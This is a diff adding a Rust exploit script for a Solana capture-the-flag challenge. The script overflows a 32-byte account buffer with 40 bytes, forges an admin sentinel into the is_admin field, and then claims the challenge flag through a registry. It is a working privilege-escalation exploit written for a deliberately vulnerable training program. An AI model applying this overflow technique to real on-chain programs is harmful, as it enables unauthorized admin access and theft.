@@ -0,0 +1,90 @@
+//! memory-safety-vulns: overflow `ComplexAccount::buffer` into `is_admin`.
+//!
+//! Operation 1 of `complex_vulnerability_demo` bounds the copy by the 40 bytes
+//! before `owner` instead of the 32-byte buffer. Thirty-two filler bytes and
+//! then the player's admin sentinel set `is_admin` and the padding after it,
+//! which unlocks `claim_admin_flag`. The sentinel comes from the player's
+//! registry instance, so the challenge has to be registered.
+
+use anchor_client::{
+    solana_sdk::{signature::Signer, system_program},
+    ClientError,
+};
+use exploits::{Exploit, ExploitResult};
+use memory_safety_vulns::{player_account_address, admin_sentinel, ComplexAccount, COMPLEX_SEED};
+
+/// Registry id of the admin-flag challenge
+const CHALLENGE_ID: &str = "memory-safety-vulns";
+
+fn main() -> ExploitResult<()> {
+    let exploit = Exploit::from_args()?;
+    let program = exploit.program(memory_safety_vulns::ID)?;
+    let player = exploit.payer.pubkey();
+    let complex = player_account_address(COMPLEX_SEED, &player);
+
+    let Some((challenge, solve)) = exploit.registry_solve(CHALLENGE_ID, &player)? else {
+        println!("{CHALLENGE_ID} is not registered on this cluster, so there is no admin sentinel to forge");
+        return Ok(());
+    };
+    let instance = exploit.registry_instance(&challenge)?;
+
+    // Each player has one complex account; reuse it from an earlier run
+    match program.account::<ComplexAccount>(complex) {
+        Ok(_) => {
+            program
+                .request()
+                .accounts(memory_safety_vulns::accounts::ResetComplex {
+                    target_account: complex,
+                    user: player,
+                })
+                .args(memory_safety_vulns::instruction::ResetComplex {})
+                .send()?;
+        }
+        Err(ClientError::AccountNotFound) => {
+            program
+                .request()
+                .accounts(memory_safety_vulns::accounts::InitializeComplex {
+                    target_account: complex,
+                    user: player,
+                    system_program: system_program::id(),
+                })
+                .args(memory_safety_vulns::instruction::InitializeComplex {})
+                .send()?;
+        }
+        Err(err) => return Err(err.into()),
+    }
+
+    // 32 bytes fill the buffer, the next 8 land in is_admin and its padding
+    let mut payload = vec![0u8; 32];
+    payload.extend_from_slice(&admin_sentinel(&instance));
+    let signature = program
+        .request()
+        .accounts(memory_safety_vulns::accounts::ComplexDemo {
+            target_account: complex,
+            user: player,
+        })
+        .args(memory_safety_vulns::instruction::ComplexVulnerabilityDemo {
+            operation: 1,
+            data: payload,
+        })
+        .send()?;
+    let is_admin = program.account::<ComplexAccount>(complex)?.is_admin;
+    println!("complex_vulnerability_demo {signature}: is_admin = {is_admin:#04x}");
+
+    let signature = program
+        .request()
+        .accounts(memory_safety_vulns::accounts::ClaimAdminFlag {
+            target_account: complex,
+            challenge,
+            instance: ctf_registry::instance_address(&challenge, &player),
+            solve,
+            flag_authority: ctf_registry::flag_authority_address(&memory_safety_vulns::ID),
+            player,
+            registry_program: ctf_registry::ID,
+            system_program: system_program::id(),
+        })
+        .args(memory_safety_vulns::instruction::ClaimAdminFlag {})
+        .send()?;
+    println!("claim_admin_flag {signature}: solve recorded at {solve}");
+    Ok(())
+}